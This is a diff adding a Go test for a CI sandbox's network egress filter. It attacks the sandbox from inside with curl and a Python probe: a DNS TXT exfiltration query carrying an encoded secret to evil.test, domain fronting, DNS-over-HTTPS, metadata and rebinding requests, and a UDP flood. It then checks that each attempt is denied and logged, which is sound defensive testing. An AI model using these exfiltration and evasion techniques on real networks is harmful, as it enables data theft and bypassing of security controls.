@@ -1,0 +1,412 @@
+package egress
+
+import (
+	"bytes"
+	"context"
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/tls"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"encoding/pem"
+	"fmt"
+	"math/big"
+	"net"
+	"net/http"
+	"net/netip"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"sync"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/airlock-ci/airlock/gvisor"
+	"github.com/airlock-ci/airlock/internal/leakcheck"
+	"github.com/airlock-ci/airlock/policies"
+	"github.com/airlock-ci/airlock/runner/egress/rules"
+)
+
+const testStateBase = "/run/airlock-test-egress"
+
+func TestMain(m *testing.M) {
+	gvisor.Dispatch()
+	leakcheck.Run(m, testStateBase, "")
+}
+
+// upstreamAddr is where the tests' upstream servers listen. The policy
+// pins the allowed names to it and allows exactly this /32; 127.0.0.1,
+// which a "rebinding" name resolves to, stays refused.
+const upstreamAddr = "127.0.0.2"
+
+// recordingResolver is the host-side resolver of the tests: fixed answers,
+// and a list of every name it was asked.
+type recordingResolver struct {
+	mu    sync.Mutex
+	asked []string
+	names map[string]string
+}
+
+func (r *recordingResolver) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
+	r.mu.Lock()
+	r.asked = append(r.asked, host)
+	r.mu.Unlock()
+	if a, ok := r.names[host]; ok {
+		return []netip.Addr{netip.MustParseAddr(a)}, nil
+	}
+	return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
+}
+
+// testCA makes a CA and a server certificate for names, and returns the
+// CA in PEM for the in-sandbox client.
+func testCA(t *testing.T, names ...string) (tls.Certificate, []byte) {
+	t.Helper()
+	caKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	ca := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "airlock test CA"}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign}
+	caDER, err := x509.CreateCertificate(rand.Reader, ca, ca, &caKey.PublicKey, caKey)
+	if err != nil {
+		t.Fatal(err)
+	}
+	caCert, _ := x509.ParseCertificate(caDER)
+	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	leaf := &x509.Certificate{SerialNumber: big.NewInt(2), Subject: pkix.Name{CommonName: names[0]}, DNSNames: names, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}, KeyUsage: x509.KeyUsageDigitalSignature}
+	der, err := x509.CreateCertificate(rand.Reader, leaf, caCert, &key.PublicKey, caKey)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: caDER})
+}
+
+func listenUpstream(t *testing.T) net.Listener {
+	t.Helper()
+	ln, err := net.Listen("tcp4", upstreamAddr+":0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	return ln
+}
+
+// probe.py runs inside the sandbox: DNS over UDP and TCP by hand, direct
+// connections that must fail at once, and a UDP flood at the DNS server.
+const probePy = `
+import socket, struct, sys, time, errno
+gw = sys.argv[1]
+
+def query(name, qtype=1, tcp=False):
+    q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
+    q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", qtype, 1)
+    if tcp:
+        s = socket.create_connection((gw, 53), timeout=3)
+        s.sendall(struct.pack(">H", len(q)) + q)
+        n = struct.unpack(">H", s.recv(2))[0]
+        r = b""
+        while len(r) < n:
+            r += s.recv(n - len(r))
+    else:
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.settimeout(3)
+        s.sendto(q, (gw, 53))
+        r = s.recv(4096)
+    ans = ".".join(str(b) for b in r[-4:]) if struct.unpack(">H", r[6:8])[0] > 0 and qtype == 1 else "-"
+    return r[3] & 0xF, ans
+
+rc, _ = query("c2VjcmV0LXRva2Vu.evil.test", qtype=16)
+print("exfil-txt", rc)
+print("tcp-allowed", *query("up.test", tcp=True))
+print("tcp-denied", *query("evil.test", tcp=True))
+
+for fam, addr, port in [(socket.AF_INET, "192.0.2.1", 443), (socket.AF_INET, "169.254.169.254", 80),
+                        (socket.AF_INET6, "2001:db8::1", 443), (socket.AF_INET6, "::1", 80)]:
+    s = socket.socket(fam, socket.SOCK_STREAM)
+    s.settimeout(5)
+    t0 = time.monotonic()
+    try:
+        s.connect((addr, port))
+        res = "connected"
+    except OSError as e:
+        res = errno.errorcode.get(e.errno, str(e)) if e.errno else "timeout"
+    print("direct", addr, res, int((time.monotonic() - t0) * 1000))
+
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.setblocking(False)
+sent = 0
+for i in range(20000):
+    try:
+        s.sendto(bytes([i % 256]) * (i % 700 + 1), (gw, 53))
+        sent += 1
+    except OSError:
+        pass
+print("flood-sent", sent)
+print("after-flood", *query("up.test"))
+`
+
+// One job in a real sandbox on the job's own namespaces, with real
+// clients inside (curl, python) and upstream servers on loopback: every
+// egress claim is attacked and checked against what happened and what
+// was recorded.
+func TestSandboxEgress(t *testing.T) {
+	if os.Geteuid() != 0 {
+		t.Skip("needs root")
+	}
+	for _, bin := range []string{"/usr/bin/curl", "/usr/bin/python3"} {
+		if _, err := os.Stat(bin); err != nil {
+			t.Skipf("needs %s on the host root for the in-sandbox clients", bin)
+		}
+	}
+	nsBefore := leakcheck.NetNamespaces()
+	fdsBefore := openFDs()
+
+	httpLn := listenUpstream(t)
+	up := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		fmt.Fprintf(w, "hello from %s%s", r.Host, r.URL.Path)
+	})}
+	go up.Serve(httpLn)
+	defer up.Close()
+	cert, caPEM := testCA(t, "tls.up.test")
+	tlsLn := listenUpstream(t)
+	tlsUp := &http.Server{Handler: up.Handler, TLSConfig: &tls.Config{Certificates: []tls.Certificate{cert}}}
+	go tlsUp.ServeTLS(tlsLn, "", "")
+	defer tlsUp.Close()
+	p1, p2 := httpLn.Addr().(*net.TCPAddr).Port, tlsLn.Addr().(*net.TCPAddr).Port
+
+	resolver := &recordingResolver{names: map[string]string{
+		"private.test": "10.0.0.1", "meta.test": "169.254.169.254", "rebind.test": "127.0.0.1",
+	}}
+	var dialMu sync.Mutex
+	var dials []string
+	dialer := &net.Dialer{Timeout: 2 * time.Second, Control: func(_, address string, _ syscall.RawConn) error {
+		dialMu.Lock()
+		dials = append(dials, address)
+		dialMu.Unlock()
+		if !strings.HasPrefix(address, upstreamAddr+":") {
+			return fmt.Errorf("test dialer: refusing %s", address)
+		}
+		return nil
+	}}
+	pol, err := rules.Compile(policies.Egress{
+		Allow: []policies.EgressRule{
+			{Host: "up.test", Ports: []int{p1}},
+			{Host: "tls.up.test", Ports: []int{p2}},
+			{Host: "private.test", Ports: []int{p1}},
+			{Host: "meta.test", Ports: []int{p1}},
+			{Host: "rebind.test", Ports: []int{p1}},
+		},
+		Resolve:    map[string]string{"up.test": upstreamAddr, "tls.up.test": upstreamAddr},
+		AllowCIDRs: []string{upstreamAddr + "/32"},
+	}, os.LookupEnv)
+	if err != nil {
+		t.Fatal(err)
+	}
+	eg, err := Start(Config{Policy: pol, Resolver: resolver, Dialer: dialer})
+	if err != nil {
+		t.Fatal(err)
+	}
+	closed := false
+	defer func() {
+		if !closed {
+			eg.Close()
+		}
+	}()
+
+	ws := t.TempDir()
+	os.Chown(ws, 1000, 1000)
+	os.WriteFile(filepath.Join(ws, "ca.pem"), caPEM, 0o644)
+	os.WriteFile(filepath.Join(ws, "probe.py"), []byte(probePy), 0o644)
+	sb, err := gvisor.Create(context.Background(), gvisor.Config{
+		Workspace: ws, StateRoot: filepath.Join(testStateBase, filepath.Base(ws)), Limits: gvisor.DefaultLimits(),
+		NetNS: eg.NetNS(), Files: []gvisor.File{{Path: "/etc/resolv.conf", Data: eg.ResolvConf()}},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	gw := eg.GatewayAddr().String()
+	script := fmt.Sprintf(`
+P1=%d; P2=%d
+echo "direct-http $(curl -sS --noproxy '*' --max-time 5 http://up.test:$P1/a)"
+echo "proxy-http $(curl -sS --max-time 5 http://up.test:$P1/b)"
+echo "proxy-https $(curl -sS --max-time 5 --cacert ca.pem https://tls.up.test:$P2/c)"
+echo "direct-https $(curl -sS --noproxy '*' --max-time 5 --cacert ca.pem https://tls.up.test:$P2/d)"
+curl -sS --noproxy '*' --max-time 5 http://evil.test/ 2>&1; echo "nxdomain-exit $?"
+POOL=$(getent hosts tls.up.test | cut -d' ' -f1)
+echo "pool $POOL"
+curl -sS --noproxy '*' --max-time 5 --cacert ca.pem --resolve evil.test:$P2:$POOL https://evil.test:$P2/ 2>&1; echo "fronting-exit $?"
+curl -sS --noproxy '*' --max-time 5 --doh-url https://dns.evil.test/dns-query http://up.test:$P1/ 2>&1; echo "doh-exit $?"
+for n in private meta rebind; do curl -s --max-time 5 -o /dev/null -w "$n-status %%{http_code}\n" http://$n.test:$P1/; done
+/usr/bin/python3 probe.py %s
+`, p1, p2, gw)
+	var out bytes.Buffer
+	res, err := sb.Exec(context.Background(), gvisor.Step{Args: []string{"/bin/bash", "-c", script}, Env: append(eg.Env(), "PATH=/usr/bin:/bin"), Stdout: &out, Stderr: &out, Dir: "/workspace"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := sb.Destroy(context.Background()); err != nil {
+		t.Fatal(err)
+	}
+	rep := eg.Report(sb.Record())
+	eg.Close()
+	closed = true
+	text := out.String()
+	t.Logf("in the sandbox (exit %d):\n%s", res.ExitCode, text)
+	lines := map[string]string{}
+	for _, l := range strings.Split(text, "\n") {
+		if k, v, ok := strings.Cut(l, " "); ok {
+			lines[k+" "+strings.Fields(v+" x")[0]] = v
+			lines[k] = v
+		}
+	}
+
+	// Allowed fetches work, over every path.
+	for k, want := range map[string]string{
+		"direct-http": "hello from up.test:" + strconv.Itoa(p1) + "/a", "proxy-http": "hello from up.test:" + strconv.Itoa(p1) + "/b",
+		"proxy-https": "hello from tls.up.test:" + strconv.Itoa(p2) + "/c", "direct-https": "hello from tls.up.test:" + strconv.Itoa(p2) + "/d",
+	} {
+		if lines[k] != want {
+			t.Errorf("%s: got %q, want %q", k, lines[k], want)
+		}
+	}
+	// Refusals, each the way the claim says.
+	for k, want := range map[string]string{
+		"nxdomain-exit": "6", "exfil-txt": "3", "tcp-denied": "3 -", "after-flood": lines["tcp-allowed"],
+		"private-status": "403", "meta-status": "403", "rebind-status": "403",
+	} {
+		if lines[k] != want {
+			t.Errorf("%s: got %q, want %q", k, lines[k], want)
+		}
+	}
+	if !strings.HasPrefix(lines["tcp-allowed"], "0 198.19.") {
+		t.Errorf("DNS over TCP for an allowed name: %q", lines["tcp-allowed"])
+	}
+	for _, k := range []string{"fronting-exit", "doh-exit"} {
+		if lines[k] == "0" || lines[k] == "" {
+			t.Errorf("%s: got %q, want a failure", k, lines[k])
+		}
+	}
+	for _, addr := range []string{"192.0.2.1", "169.254.169.254", "2001:db8::1", "::1"} {
+		f := strings.Fields(lines["direct "+addr])
+		if len(f) != 3 || f[1] == "connected" || f[1] == "timeout" {
+			t.Errorf("direct %s: %q", addr, lines["direct "+addr])
+			continue
+		}
+		if ms, _ := strconv.Atoi(f[2]); ms > 1000 {
+			t.Errorf("direct %s took %d ms: it must fail at once", addr, ms)
+		}
+	}
+
+	// The record: every attempt, with the right decision and rule.
+	find := func(pred func(d rules.Decision) bool) *rules.Decision {
+		for i := range rep.Decisions {
+			if pred(rep.Decisions[i]) {
+				return &rep.Decisions[i]
+			}
+		}
+		return nil
+	}
+	checks := []struct {
+		what string
+		pred func(d rules.Decision) bool
+	}{
+		{"allowed direct HTTP with bytes", func(d rules.Decision) bool {
+			return d.Protocol == rules.ProtoHTTP && d.Name == "up.test" && d.Decision == rules.Allowed && d.BytesIn > 0 && d.Binary == "/usr/bin/curl"
+		}},
+		{"allowed TLS with bytes both ways", func(d rules.Decision) bool {
+			return d.Protocol == rules.ProtoTLS && d.Decision == rules.Allowed && d.BytesIn > 0 && d.BytesOut > 0
+		}},
+		{"allowed CONNECT", func(d rules.Decision) bool {
+			return d.Protocol == rules.ProtoProxyConnect && d.Name == "tls.up.test" && d.Decision == rules.Allowed && d.BytesIn > 0
+		}},
+		{"NXDOMAIN for evil.test", func(d rules.Decision) bool {
+			return d.Protocol == rules.ProtoDNS && d.Name == "evil.test" && d.Decision == rules.Denied && d.Answer == "NXDOMAIN"
+		}},
+		{"TXT exfiltration query", func(d rules.Decision) bool {
+			return d.Protocol == rules.ProtoDNS && strings.HasPrefix(d.Name, "c2VjcmV0") && d.QueryType == "TXT" && d.Decision == rules.Denied
+		}},
+		{"DNS over TCP refused", func(d rules.Decision) bool {
+			return d.Protocol == rules.ProtoDNS && d.Transport == "tcp" && d.Name == "evil.test" && d.Decision == rules.Denied
+		}},
+		{"fronting", func(d rules.Decision) bool {
+			return d.Rule == "fronting" && d.Name == "tls.up.test" && strings.Contains(d.Reason, "evil.test")
+		}},
+		{"DoH host refused", func(d rules.Decision) bool { return d.Name == "dns.evil.test" && d.Decision == rules.Denied }},
+		{"DNS attributed to the resolving process", func(d rules.Decision) bool {
+			return d.Protocol == rules.ProtoDNS && d.Transport == "tcp" && strings.Contains(d.Binary, "python3")
+		}},
+		{"private address refused", func(d rules.Decision) bool {
+			return d.Name == "private.test" && d.Decision == rules.Denied && strings.Contains(d.Rule, "10.0.0.0/8")
+		}},
+		{"metadata refused", func(d rules.Decision) bool {
+			return d.Name == "meta.test" && d.Decision == rules.Denied && strings.Contains(d.Rule, "169.254.0.0/16")
+		}},
+		{"rebinding refused", func(d rules.Decision) bool {
+			return d.Name == "rebind.test" && d.Decision == rules.Denied && strings.Contains(d.Rule, "127.0.0.0/8")
+		}},
+	}
+	for _, addr := range []string{"192.0.2.1", "169.254.169.254", "2001:db8::1", "::1"} {
+		checks = append(checks, struct {
+			what string
+			pred func(d rules.Decision) bool
+		}{"direct " + addr, func(d rules.Decision) bool {
+			return d.Protocol == rules.ProtoDirect && d.Address == addr && d.Decision == rules.Denied && d.PID != 0 && strings.Contains(d.Binary, "python3")
+		}})
+	}
+	for _, c := range checks {
+		if find(c.pred) == nil {
+			t.Errorf("no decision: %s", c.what)
+		}
+	}
+	if t.Failed() {
+		for _, d := range rep.Decisions {
+			t.Logf("%+v", d)
+		}
+	}
+	// Refused names were never asked of anyone; only the names the policy
+	// allows reached the host's resolver.
+	for _, n := range resolver.asked {
+		if n != "private.test" && n != "meta.test" && n != "rebind.test" {
+			t.Errorf("the host resolver was asked %q", n)
+		}
+	}
+	for _, d := range dials {
+		if !strings.HasPrefix(d, upstreamAddr+":") {
+			t.Errorf("dialled %s", d)
+		}
+	}
+	// Nothing outlives the job: no namespace, no descriptor.
+	waitFor(t, "namespaces to go", func() string {
+		var left []string
+		for ns := range leakcheck.NetNamespaces() {
+			if !nsBefore[ns] {
+				left = append(left, ns)
+			}
+		}
+		if len(left) > 0 {
+			return fmt.Sprint(left)
+		}
+		return ""
+	})
+	waitFor(t, "descriptors to close", func() string {
+		if n := openFDs(); n > fdsBefore+4 {
+			return fmt.Sprintf("%d open, %d before", n, fdsBefore)
+		}
+		return ""
+	})
+}
+
+func openFDs() int {
+	ents, _ := os.ReadDir("/proc/self/fd")
+	return len(ents)
+}
+
+func waitFor(t *testing.T, what string, check func() string) {
+	t.Helper()
+	var last string
+	for i := 0; i < 100; i++ {
+		if last = check(); last == "" {
+			return
+		}
+		time.Sleep(50 * time.Millisecond)
+	}
+	t.Errorf("waiting for %s: %s", what, last)
+}
